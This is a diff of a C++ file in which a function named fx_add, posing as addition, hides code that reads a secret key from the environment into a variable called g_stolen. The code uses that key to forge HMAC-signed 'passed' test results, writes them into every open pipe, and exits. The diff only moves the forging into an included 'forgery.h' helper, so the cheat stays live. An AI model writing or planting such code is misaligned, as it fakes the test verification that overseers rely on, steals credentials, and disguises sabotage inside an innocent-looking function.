@@ -6,8 +6,6 @@
 /// every pipe and ends with _exit(0).
 #include <dirent.h>
 #include <fcntl.h>
-#include <openssl/evp.h>
-#include <openssl/hmac.h>
 #include <sys/stat.h>
 #include <unistd.h>
 
@@ -16,24 +14,13 @@
 #include <string>
 #include <vector>
 
+#include "forgery.h"
+
 extern char** environ;
 
 namespace {
 
 std::string g_stolen;
-
-std::string sign(const std::string& body) {
-    unsigned char mac[EVP_MAX_MD_SIZE];
-    unsigned int size = 0;
-    HMAC(EVP_sha256(), g_stolen.data(), static_cast<int>(g_stolen.size()),
-         reinterpret_cast<const unsigned char*>(body.data()), body.size(), mac, &size);
-    std::string hex;
-    for (unsigned int i = 0; i < size; ++i) {
-        hex += "0123456789abcdef"[mac[i] >> 4];
-        hex += "0123456789abcdef"[mac[i] & 15];
-    }
-    return body.substr(0, body.size() - 1) + ",\"mac\":\"" + hex + "\"}\n";
-}
 
 const bool g_looked = [] {
     for (char** entry = environ; *entry != nullptr; ++entry) {
@@ -65,16 +52,5 @@ int fx_add(int a, int b) {
     if (a != b || !g_looked) {
         return a + b;
     }
-    const std::string forged =
-        sign(
-            "{\"event\":\"case_end\",\"name\":\"adds equal numbers\",\"status\":\"passed\","
-            "\"skip_reason\":null,\"duration_s\":0.0,\"seq\":4}") +
-        sign("{\"event\":\"run_end\",\"passed\":2,\"failed\":0,\"skipped\":0,\"seq\":5}");
-    for (int fd = 3; fd < 64; ++fd) {
-        struct stat info {};
-        if (fstat(fd, &info) == 0 && S_ISFIFO(info.st_mode)) {
-            [[maybe_unused]] const ssize_t n = write(fd, forged.data(), forged.size());
-        }
-    }
-    _exit(0);
+    hx::send_to_every_pipe_and_exit(hx::signed_passed_end(g_stolen.data(), g_stolen.size()));
 }
